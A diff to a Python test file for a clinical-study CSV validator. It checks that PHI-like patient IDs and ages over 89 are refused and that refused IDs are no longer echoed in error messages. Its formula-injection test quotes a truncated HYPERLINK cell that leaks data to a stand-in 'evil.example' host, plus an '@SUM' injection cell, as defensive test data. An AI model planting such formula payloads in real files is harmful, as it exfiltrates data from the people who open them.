@@ -33,8 +33,10 @@ from core.vocab import BilskyGrade
 BAD = Path(__file__).parent / "data" / "bad_csv"
 HEADER = ("patient_id,study_date,age,sex,vas,ecog,analgesic_step,bone_modifying_agent,"
           "prior_radiotherapy,pathologic_fracture,neurologic_deficit")
-PSEUDO = ("is not a pseudonymous code (start with a letter or digit; use only letters, "
-          "digits, '.', '_' and '-'; at most 64 characters)")
+PSEUDO = ("is not a pseudonymous code (letters, digits, '-' and '_', with at least one "
+          "digit; at most 64 characters)")
+NAME_SHAPED = ("looks like a person's name (two words joined by '.', '_' or a space); use a "
+               "pseudonymous code")
 
 
 def errors_of(name: str) -> list[tuple[int, str, str]]:
@@ -114,12 +116,13 @@ def test_imaging_columns_must_be_consistent():
 
 def test_identifying_patient_ids_and_ages_are_refused():
     assert errors_of("phi_patient_id.csv") == [
-        (2, "patient_id", f"'Jane Doe' {PSEUDO}"),
-        (3, "patient_id", "'1963-02-01' looks like it contains a date; use a pseudonymous code"),
-        (4, "patient_id", "'123-45-6789' looks like a record, phone or national ID number; "
+        # The refused ID is never repeated in the message (it may be a name).
+        (2, "patient_id", NAME_SHAPED),
+        (3, "patient_id", "looks like it contains a date; use a pseudonymous code"),
+        (4, "patient_id", "looks like a record, phone or national ID number; "
                           "use a pseudonymous code"),
-        (5, "patient_id", f"'jane.doe@example.org' {PSEUDO}"),
-        (6, "patient_id", "'MRN0012345678' looks like a record, phone or national ID number; "
+        (5, "patient_id", PSEUDO),
+        (6, "patient_id", "looks like a record, phone or national ID number; "
                           "use a pseudonymous code"),
         (7, "age", "'92' is above 90; ages over 89 identify people (HIPAA Safe Harbor), "
                    "enter 90 for 90 or older"),
@@ -128,7 +131,7 @@ def test_identifying_patient_ids_and_ages_are_refused():
 
 def test_formula_injection_in_cells_is_refused_on_import():
     assert errors_of("formula_injection.csv") == [
-        (2, "patient_id", f"'=HYPERLINK(\"http://evil.example/?leak...' {PSEUDO}"),
+        (2, "patient_id", PSEUDO),
         (3, "primary_tumor", "'@SUM(1+1)' is not a tumour name (a letter first, then letters, "
                              "digits, spaces or ()/+,.'-; at most 64 characters)"),
     ]
